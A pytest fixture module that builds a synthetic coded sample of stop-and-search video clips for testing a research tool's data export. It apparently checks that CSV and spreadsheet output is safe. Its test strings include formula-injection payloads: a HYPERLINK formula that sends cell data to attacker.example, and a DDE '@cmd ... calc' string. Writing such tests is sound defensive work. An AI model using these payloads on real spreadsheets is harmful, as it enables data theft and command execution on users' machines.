"""A coded sample to export: synthetic catalogue, S&S codebook, a stratified draw, two coders, reviews.

Building it takes a few seconds (every key press is its own committed transaction, as in the app), so the
module-scoped :func:`coded_sample` builds one workspace per test module; tests that write copy it first.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pytest

from bwvtool.catalogue.importer import import_catalogue
from bwvtool.catalogue.synthetic import synthetic_rows, write_csv, write_jsonl
from bwvtool.coding import review
from bwvtool.coding.session import CodebookCodes, CodingSession
from bwvtool.sampling import draw, sample_items
from bwvtool.store import open_workspace
from bwvtool.store.codebooks import ensure_default_codebooks, get_codebook

PLAN = """
name: Export test study
unit: clip
frame:
  window: {from: "2021-01-01", to: "2021-04-01"}
  where:
    all:
      - {field: sources, op: contains_any, value: [stop_search]}
design:
  sample: {method: stratified, n: 8, strata: [subject_ethnicity], allocation: proportional, allow_unsampled_strata: true}
assignment:
  coders: [alice, bob]
  double_code: 0.5
"""
FORMULA_NOTE = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
FPS = 25
# Values that break naive CSV/TSV writers or readers, or that a spreadsheet would run as formulas.
HOSTILE = (
    "=1+1", "+SUM(A1)", "-2+3", "@cmd|' /C calc'!A0", " =1", "\t=1", "\r=1", "\n=1", "\x01=1", "\u200b=1",
    "\uff1d1", "'quoted", "'=1", "a,b", "a\tb", 'say "hi"', "line\rbreak", "line\nbreak", "line\r\nbreak",
    "x\r=1", '"', ",", "NA", "TRUE", "#comment", "a;b", "é ünï 日本 🚓", "  padded  ",
)  # fmt: skip
HOSTILE_BOROUGHS = ("=Westminster", "Lambeth,\r=1", 'Croydon "\t" x')
HOSTILE_PLAN = PLAN.replace("strata: [subject_ethnicity]", "strata: [borough]")


@dataclass
class CodedSample:
    db: Path
    sample_id: int
    clips: list[str]
    double_coded: list[str]
    codebook_id: int

    def open(self):
        return open_workspace(self.db)

    def copy(self, folder: Path) -> Path | str:
        """A private copy of the workspace on its own engine (for tests that write to it): a file in ``folder``,
        or a new database on the same server."""
        import uuid

        import psycopg

        from bwvtool.store.postgres import is_server_location
        from bwvtool.store.postgres.copy import copy_workspace

        folder.mkdir(parents=True, exist_ok=True)
        target: Path | str = folder / "copy.sqlite"
        if is_server_location(self.db):
            target = psycopg.conninfo.make_conninfo(str(self.db), dbname=f"bwvcopy_{uuid.uuid4().hex[:12]}")
        with self.open() as ws:
            copy_workspace(ws, target)
        return target


def _frame(ms: int) -> int:
    return ms * FPS // 1000


def code_clip(
    ws,
    clip_id: str,
    coder: str,
    codebook,
    codebook_id: int,
    *,
    shift: int,
    variant: int,
    hostile: bool = False,
) -> None:
    """A plausible S&S encounter: demeanour states, officer language, resistance, an assault and escalation.
    ``hostile``: every event carries one of :data:`HOSTILE` as its note."""
    s = CodingSession(
        ws, clip_id=clip_id, coder=coder, codebook_id=codebook_id, codes=CodebookCodes(codebook)
    )
    start = variant * 5 % len(HOSTILE)
    notes = iter(HOSTILE[start:] + HOSTILE[:start] + HOSTILE)

    def key(code, ms, actor, **kw):
        if hostile and kw.get("note") is None:
            kw["note"] = next(notes)
        return s.code_key(code, at_ms=ms + shift, at_frame=_frame(ms + shift), actor=actor, **kw)

    key("demeanour", 0, "subject_1", modifiers={"level": "calm"})
    if variant % 2 == 0:
        key("reason_given", 1_500, "officer_1")
    command = key("command", 2_000, "officer_1", note=FORMULA_NOTE if coder == "alice" else None)
    key("explains_process", 2_600, "officer_1")
    key("active_listening", 2_620, "officer_1")  # 20 ms later: in ELAN it goes to an overflow tier
    key("demeanour", 5_000, "subject_1")  # ends the calm state
    key("demeanour", 5_000, "subject_1", modifiers={"level": "agitated"})
    key("verbal_resistance", 6_000, "subject_1")
    key("calm", 6_500, "officer_1")
    key("time_distance", 7_000, "officer_2", modifiers={"distance_m": 3})
    key("time_distance", 9_000, "officer_2")
    key("verbal_resistance", 10_000, "subject_1")
    up = key("escalation_up", 10_200, "subject_1")
    s.edit(up.id, caused_by=command.id, starred=True)
    key("assault_on_officer", 11_000, "subject_1", modifiers={"assault_type": ["spitting", "pushing"]})
    key("command", 11_040, "officer_1")
    if variant % 3 != 1 or coder == "alice":
        key("complies", 14_000, "subject_1")
    key("calm", 15_000, "officer_1")
    # the agitated demeanour is left open: it runs to the end of the clip


ANSWERS = {
    "gowisely_grounds": "given", "gowisely_object": "given", "gowisely_warrant_card": "not_applicable",
    "gowisely_identity": "partial", "gowisely_station": "not_given", "gowisely_entitlement": "given",
    "gowisely_legal_power": "given", "gowisely_detained": "partial", "pj_voice": 3, "pj_neutrality": 2,
    "pj_dignity_respect": 4, "pj_trustworthy_motives": 3, "learning_themes": ["language_manner", "reasons_grounds"],
    "whole_encounter_recorded": "yes", "audio_quality": "good",
}  # fmt: skip


def review_clip(ws, clip_id: str, coder: str, codebook, codebook_id: int, *, variant: int, note: str) -> None:
    answers = dict(ANSWERS, pj_voice=(3 + variant) % 5, notes=note)
    if coder == "bob" and variant % 2:
        answers["gowisely_grounds"] = "partial"
    for item, value in answers.items():
        review.save_answer(ws, clip_id=clip_id, coder=coder, codebook=codebook, codebook_id=codebook_id,
                           item_id=item, value=value)  # fmt: skip
    review.complete(ws, clip_id=clip_id, coder=coder, codebook=codebook, codebook_id=codebook_id)


def _hostile_rows(rows):
    """Catalogue rows whose borough (a stratum), BCU and notes hold hostile text."""
    for i, row in enumerate(rows):
        yield {**row, "borough": HOSTILE_BOROUGHS[i % 3], "bcu": HOSTILE[i % len(HOSTILE)],
               "notes": HOSTILE[(i + 7) % len(HOSTILE)]}  # fmt: skip


def build_coded_sample(
    folder: Path, *, hostile: bool = False, location: Path | str | None = None
) -> CodedSample:
    """The coded sample (at ``location``, default ``folder/ws.sqlite``); ``hostile``: hostile text
    (:data:`HOSTILE`) in every text field a user can fill."""
    folder.mkdir(parents=True, exist_ok=True)
    if hostile:
        catalogue = folder / "catalogue.jsonl"
        write_jsonl(catalogue, _hostile_rows(synthetic_rows(300, seed=11)))
    else:
        catalogue = folder / "catalogue.csv"
        write_csv(catalogue, synthetic_rows(300, seed=11))
    db = folder / "ws.sqlite" if location is None else location
    ws = open_workspace(db, create=True)
    import_catalogue(ws, catalogue, actor="setup")
    ensure_default_codebooks(ws, actor="setup")
    with ws.transaction("setup") as tx:  # a draw hands units only to coders who exist
        for name in ("alice", "bob"):
            ws.coder_id(tx, name)
    stored = get_codebook(ws.conn, "ss_language_behaviour")
    plan_file = folder / "plan.yaml"
    plan_file.write_text(HOSTILE_PLAN if hostile else PLAN, encoding="utf-8")
    sample_id = draw(ws, plan_file, seed=5, as_of="2021-04-01", actor="setup")
    items = sample_items(ws, sample_id)
    double = []
    for variant, item in enumerate(items):
        coders = [c for c in (item["coder"], item["reliability_coder"]) if c]
        if len(coders) > 1:
            double.append(item["clip_id"])
        for coder in coders:
            shift = 0 if coder == "alice" else 120
            code_clip(ws, item["clip_id"], coder, stored.codebook, stored.id, shift=shift, variant=variant,
                      hostile=hostile)  # fmt: skip
            note = f"Clip {item['clip_id']} filmed by {item['officer_ref']}"
            if hostile:
                note = (
                    f"{HOSTILE[variant % len(HOSTILE)]} (clip_{item['clip_id'].lower()}_by_{coder.upper()})"
                )
            review_clip(ws, item["clip_id"], coder, stored.codebook, stored.id, variant=variant, note=note)
    ws.close()
    return CodedSample(db, sample_id, [i["clip_id"] for i in items], double, stored.id)


@pytest.fixture(scope="module")
def coded_sample(tmp_path_factory, module_workspace_location) -> CodedSample:
    return build_coded_sample(tmp_path_factory.mktemp("coded"), location=module_workspace_location)


def test_the_fixture_has_double_coded_clips_and_reviews(coded_sample):
    assert len(coded_sample.clips) >= 6 and len(coded_sample.double_coded) >= 2
    ws = coded_sample.open()
    try:
        assert ws.counts()["events"] > 100
    finally:
        ws.close()
